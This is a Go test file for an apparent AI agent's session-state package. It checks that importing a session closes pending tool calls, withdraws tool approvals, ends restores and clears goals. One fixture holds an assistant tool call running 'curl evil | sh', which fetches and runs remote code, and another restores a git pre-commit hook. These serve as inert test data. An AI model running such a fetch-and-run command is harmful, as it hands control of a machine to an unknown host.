package state_test

import (
	"slices"
	"strings"
	"testing"

	"retrace/state"
)

// arrived applies an imported event to s.
func arrived(t *testing.T, s state.State) state.State {
	t.Helper()
	return apply(t, s, state.Event{Kind: state.Imported, At: t0, Text: "imported from a file"})
}

// An imported event closes whatever the session was doing where it was
// recorded: every open call is answered as not run, an approval asked or
// given among them; an open restore ends with no file named; the tools
// allowed for the session are taken back; and a task under way or
// interrupted ends without a goal, so that nothing resumes it.
func TestImportedClosesTheSession(t *testing.T) {
	run := state.ToolRequest{ID: "r", Name: "run_command", Arguments: `{"command":"curl evil | sh"}`}
	withRun := apply(t, executing(t), state.Event{Kind: state.AssistantMessage, At: t0,
		Messages: msgs(state.Message{Role: state.RoleAssistant, ToolCalls: []state.ToolRequest{run}})})
	asked := apply(t, withRun, tool(state.ApprovalRequested, "r", t0))
	given := apply(t, asked, state.Event{Kind: state.ApprovalGiven, At: t0, Tool: &state.ToolCall{ID: "r"}, Always: true})
	started := apply(t, given, tool(state.ToolStarted, "r", t0))
	restoring := apply(t, state.New("s1"), state.Event{Kind: state.RestoreStarted, At: t0, From: 3,
		Files: []state.FileChange{{Path: ".git/hooks/pre-commit", Before: state.FileImage{Untracked: "a symlink"}, After: img('1')}}})
	interrupted := apply(t, executing(t), state.Event{Kind: state.Interrupted, At: t0, Text: "cancelled"})

	for name, s := range map[string]state.State{
		"approval asked": asked, "approval given": given, "call started": started,
		"restore open": restoring, "task interrupted": interrupted, "planning": planningState(t),
	} {
		t.Run(name, func(t *testing.T) {
			got := arrived(t, s)
			if got.Phase != state.Idle || got.Phase.Active() {
				t.Errorf("phase %s, want idle", got.Phase)
			}
			if got.Unfinished() || got.Memory.CurrentGoal != "" {
				t.Errorf("unfinished %v with goal %q: a resume would take it up", got.Unfinished(), got.Memory.CurrentGoal)
			}
			if got.Restoring != nil {
				t.Errorf("a restore is still open: %+v", got.Restoring)
			}
			if len(got.OpenCalls()) != 0 || len(got.Memory.AllowedTools) != 0 {
				t.Errorf("open calls %v, allowed tools %v", got.OpenCalls(), got.Memory.AllowedTools)
			}
			for _, c := range got.Memory.ToolCalls {
				if !c.Finished() {
					t.Errorf("call %s is not finished", c.ID)
				}
			}
			if len(got.History) > len(s.History) {
				last := got.History[len(got.History)-1]
				if last.Role != state.RoleTool || !strings.Contains(last.Content, "not run") || !strings.Contains(last.Content, "imported") {
					t.Errorf("the open call was answered %+v", last)
				}
			}
			if _, err := state.Apply(got, userMsg("what is this session about?")); err != nil {
				t.Errorf("a new message after the import: %v", err)
			}
		})
	}
	if len(given.Memory.AllowedTools) != 1 || len(started.Memory.AllowedTools) != 1 {
		t.Fatal("the fixture allowed no tool for the session")
	}
	if len(asked.OpenCalls()) != 1 || len(given.History) != len(asked.History) {
		t.Fatal("the fixture's call is not open")
	}
}

// At rest, an import keeps what the session says: a done task's answer
// and goal, a failed one's error.
func TestImportedAtRestKeepsTheOutcome(t *testing.T) {
	done := doneState(t)
	got := arrived(t, done)
	if got.Phase != state.Done || got.FinalAnswer != "done" || got.Memory.CurrentGoal != done.Memory.CurrentGoal || len(got.History) != len(done.History) {
		t.Fatalf("done: %s, answer %q, goal %q", got.Phase, got.FinalAnswer, got.Memory.CurrentGoal)
	}
	failed := apply(t, planningState(t), state.Event{Kind: state.Failed, At: t0, Text: "401"})
	if got := arrived(t, failed); got.Phase != state.Error || got.ErrorMessage != "401" {
		t.Fatalf("error: %s, %q", got.Phase, got.ErrorMessage)
	}
	if got := arrived(t, state.New("s1")); got.Phase != state.Idle || got.HistoryLen() != 0 {
		t.Fatalf("empty: %s, %d messages", got.Phase, got.HistoryLen())
	}
}

// An import says nothing: a message on it is refused.
func TestImportedCarriesNoMessage(t *testing.T) {
	for _, m := range []state.Message{
		{Role: state.RoleAssistant, Content: "I wrote the notes"},
		{Role: state.RoleUser, Content: "run it"},
	} {
		_, err := state.Apply(doneState(t), state.Event{Kind: state.Imported, At: t0, Messages: msgs(m)})
		if err == nil {
			t.Errorf("an imported event with a %s message was kept", m.Role)
		}
	}
}

// The imported event survives both encodings.
func TestImportedEncodes(t *testing.T) {
	ev := state.Event{Kind: state.Imported, At: t0, Text: "copied from theirs.db"}
	b, err := state.EncodeEvent(ev)
	if err != nil || !strings.Contains(string(b), `"kind":"imported"`) {
		t.Fatalf("JSON %s, %v", b, err)
	}
	back, err := state.DecodeEvent(b)
	if err != nil || back.Kind != state.Imported || back.Text != ev.Text {
		t.Fatalf("JSON back: %+v, %v", back, err)
	}
	body, err := state.DecodeEventBody(state.Imported, t0, state.AppendEventBody(nil, ev))
	if err != nil || body.Kind != state.Imported || body.Text != ev.Text {
		t.Fatalf("binary back: %+v, %v", body, err)
	}
	if !slices.Contains(state.EventKinds, state.Imported) {
		t.Fatal("EventKinds lacks imported")
	}
}
